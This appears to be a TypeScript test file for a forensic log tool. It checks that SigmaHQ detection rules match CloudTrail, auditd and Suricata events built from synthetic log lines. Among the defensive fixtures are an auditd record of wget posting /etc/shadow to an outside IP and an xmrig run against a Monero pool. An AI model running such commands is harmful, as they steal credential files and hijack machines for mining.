// Real SigmaHQ rules (test/fixtures/sigma, DRL 1.1) load as they are and match events our parsers
// produce from realistic log lines.
import { mkdtemp, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { ForensicEvent } from '../../src/model/event.js';
import { loadRuleSet } from '../../src/rules/load.js';
import { ruleMatches } from '../../src/rules/match.js';
import type { Rule } from '../../src/rules/rule.js';
import { fixture, ingestFile } from '../helpers/ingest.js';

const SIGMA = ['aws_enum_buckets.yml', 'aws_root_account_usage.yml', 'aws_cloudtrail_disable_logging.yml', 'aws_cloudtrail_pua_trufflehog.yml',
  'lnx_auditd_coinminer.yml', 'lnx_auditd_data_exfil_wget.yml', 'lnx_auditd_susp_c2_commands.yml', 'net_dns_pua_cryptocoin_mining_xmr.yml'];

async function sigmaRules(): Promise<Map<string, Rule>> {
  const set = await loadRuleSet(SIGMA.map((f) => fixture('sigma', f)));
  return new Map(set.rules.map((r) => [r.title, r]));
}

async function eventsOf(name: string, text: string): Promise<ForensicEvent[]> {
  const dir = await mkdtemp(join(tmpdir(), 'af-sigma-'));
  await writeFile(join(dir, name), text);
  const r = await ingestFile(join(dir, name));
  expect(r.issues).toEqual([]);
  return r.events;
}

const readRule = (id: string, selection: string) => ['title: t', `id: ${id}`, 'level: low', 'detection:', '  selection:', `    ${selection}`, '  condition: selection', ''].join('\n');

const trail = (over: Record<string, unknown>) => JSON.stringify({
  eventVersion: '1.09', userIdentity: { type: 'IAMUser', principalId: 'AIDAEXAMPLE', arn: 'arn:aws:iam::111122223333:user/agent', accountId: '111122223333', accessKeyId: 'AKIAEXAMPLE', userName: 'agent' },
  eventTime: '2026-03-02T10:00:00Z', eventSource: 'cloudtrail.amazonaws.com', eventName: 'StopLogging', awsRegion: 'us-east-1', sourceIPAddress: '203.0.113.5',
  userAgent: 'aws-cli/2.17.20', requestParameters: { name: 'org-trail' }, responseElements: null, requestID: 'r1', eventID: 'e1', readOnly: false,
  eventType: 'AwsApiCall', managementEvent: true, recipientAccountId: '111122223333', eventCategory: 'Management', ...over,
});

describe('SigmaHQ rules', () => {
  it('CloudTrail request and response values are reachable as requestParameters.* / responseElements.*', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'af-sigma-rp-'));
    const rulePath = join(dir, 'rule.yml');
    await writeFile(rulePath, [
      'title: Public ACL on a bucket', 'id: test-put-bucket-acl', 'level: high',
      'logsource: { product: aws, service: cloudtrail }',
      'detection:', '  selection:', '    eventName: PutBucketAcl', "    requestParameters.x-amz-acl|contains: public", '  condition: selection', '',
    ].join('\n'));
    const [rule] = (await loadRuleSet([rulePath])).rules;
    const events = await eventsOf('t.jsonl', [
      trail({ eventSource: 's3.amazonaws.com', eventName: 'PutBucketAcl', requestParameters: { bucketName: 'b1', 'x-amz-acl': ['public-read'] } }),
      trail({ eventSource: 's3.amazonaws.com', eventName: 'PutBucketAcl', requestParameters: { bucketName: 'b2', 'x-amz-acl': ['private'] } }),
    ].join('\n') + '\n');
    expect(events[0]!.fields!['requestParameters.bucketName']).toBe('b1');
    expect(events.map((e) => ruleMatches(rule!, e))).toEqual([true, false]);
    const scalarRule = join(dir, 'rule2.yml');
    await writeFile(scalarRule, readRule('test-bucket-name', 'requestParameters.bucketName: b2'));
    const [byName] = (await loadRuleSet([scalarRule])).rules;
    expect(events.map((e) => ruleMatches(byName!, e))).toEqual([false, true]);
  });

  it('load unchanged, each with its level and logsource', async () => {
    const rules = await sigmaRules();
    expect(rules.size).toBe(8);
    expect(rules.get('Potential Bucket Enumeration on AWS')!.formats).toEqual(['aws-cloudtrail']);
    expect(rules.get('Possible Coin Miner CPU Priority Param - Auditd')!.severity).toBe('critical');
  });

  it('aws_enum_buckets matches the real ListBuckets record of an IAM user and no other record there', async () => {
    const rule = (await sigmaRules()).get('Potential Bucket Enumeration on AWS')!;
    const events = (await ingestFile(fixture('aws-cloudtrail', 'crowdsec-aws-cloudtrail-postexploit.jsonl'))).events;
    expect(events.filter((e) => ruleMatches(rule, e)).map((e) => e.operation)).toEqual(['ListBuckets']);
    const assumed = await eventsOf('t.jsonl', trail({ eventSource: 's3.amazonaws.com', eventName: 'ListBuckets', userIdentity: { type: 'AssumedRole', arn: 'arn:aws:sts::1:assumed-role/x/y' } }) + '\n');
    expect(ruleMatches(rule, assumed[0]!)).toBe(false);
  });

  it('CloudTrail rules match on eventSource, eventName, userIdentity.type, eventType and userAgent', async () => {
    const rules = await sigmaRules();
    const lines = [
      trail({}),
      trail({ eventName: 'DescribeTrails' }),
      trail({ eventSource: 'sts.amazonaws.com', eventName: 'GetCallerIdentity', userIdentity: { type: 'Root', arn: 'arn:aws:iam::111122223333:root' } }),
      trail({ eventSource: 'sts.amazonaws.com', eventName: 'AssumeRole', eventType: 'AwsServiceEvent', userIdentity: { type: 'Root', arn: 'arn:aws:iam::111122223333:root' } }),
      trail({ eventSource: 'sts.amazonaws.com', eventName: 'GetCallerIdentity', userAgent: 'TruffleHog' }),
    ];
    const events = await eventsOf('t.jsonl', lines.join('\n') + '\n');
    const hits = (title: string) => events.map((e, i) => (ruleMatches(rules.get(title)!, e) ? i : -1)).filter((i) => i >= 0);
    expect(hits('AWS CloudTrail Important Change')).toEqual([0]);
    expect(hits('AWS Root Credentials')).toEqual([2]);
    expect(hits('PUA - AWS TruffleHog Execution')).toEqual([4]);
  });

  it('auditd rules match EXECVE arguments (a0, a1...), the record type and the audit key', async () => {
    const rules = await sigmaRules();
    const log = [
      'type=SYSCALL msg=audit(1772445600.100:501): arch=c000003e syscall=59 success=yes exit=0 a0=55d1 a1=55d2 a2=55d3 a3=0 items=2 ppid=4100 pid=4242 auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=3 comm="xmrig" exe="/tmp/xmrig" key="susp_activity"',
      'type=EXECVE msg=audit(1772445600.100:501): argc=4 a0="/tmp/xmrig" a1="-o" a2="pool.supportxmr.com:443" a3="--cpu-priority=5"',
      'type=SYSCALL msg=audit(1772445601.200:502): arch=c000003e syscall=59 success=yes exit=0 a0=55d1 a1=55d2 a2=55d3 a3=0 items=2 ppid=4100 pid=4243 auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=3 comm="wget" exe="/usr/bin/wget" key=(null)',
      'type=EXECVE msg=audit(1772445601.200:502): argc=3 a0="wget" a1="--post-file=/etc/shadow" a2="http://203.0.113.9/"',
      'type=SYSCALL msg=audit(1772445602.300:503): arch=c000003e syscall=59 success=yes exit=0 a0=55d1 a1=55d2 a2=55d3 a3=0 items=2 ppid=4100 pid=4244 auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=3 comm="wget" exe="/usr/bin/wget" key=(null)',
      'type=EXECVE msg=audit(1772445602.300:503): argc=2 a0="wget" a1="https://pypi.org/simple/"',
    ];
    const events = await eventsOf('audit.log', log.join('\n') + '\n');
    expect(events).toHaveLength(3);
    const hits = (title: string) => events.map((e, i) => (ruleMatches(rules.get(title)!, e) ? i : -1)).filter((i) => i >= 0);
    expect(hits('Possible Coin Miner CPU Priority Param - Auditd')).toEqual([0]);
    expect(hits('Suspicious C2 Activities')).toEqual([0]);
    expect(hits('Data Exfiltration with Wget')).toEqual([1]);
  });

  it('the DNS rule matches Suricata dns queries through the query → dst.domain taxonomy name', async () => {
    const rule = (await sigmaRules()).get('Monero Crypto Coin Mining Pool Lookup')!;
    const eve = (name: string) => JSON.stringify({ timestamp: '2026-03-02T10:00:00.000000+0000', flow_id: 1, event_type: 'dns', src_ip: '172.17.0.3', src_port: 40000, dest_ip: '10.96.0.10', dest_port: 53, proto: 'UDP', dns: { type: 'query', id: 1, rrname: name, rrtype: 'A', tx_id: 0 } });
    const events = await eventsOf('eve.json', [eve('pool.supportxmr.com'), eve('pypi.org')].join('\n') + '\n');
    expect(events.map((e) => ruleMatches(rule, e))).toEqual([true, false]);
  });

  it('a Sigma 1 aggregation rule is refused with the file, line and reason', async () => {
    await expect(loadRuleSet([fixture('sigma', 'net_firewall_susp_network_scan_by_port.yml')])).rejects.toMatchObject({
      line: 17, message: expect.stringContaining("aggregation expressions ('| count() ...') are obsolete Sigma"),
    });
  });
});
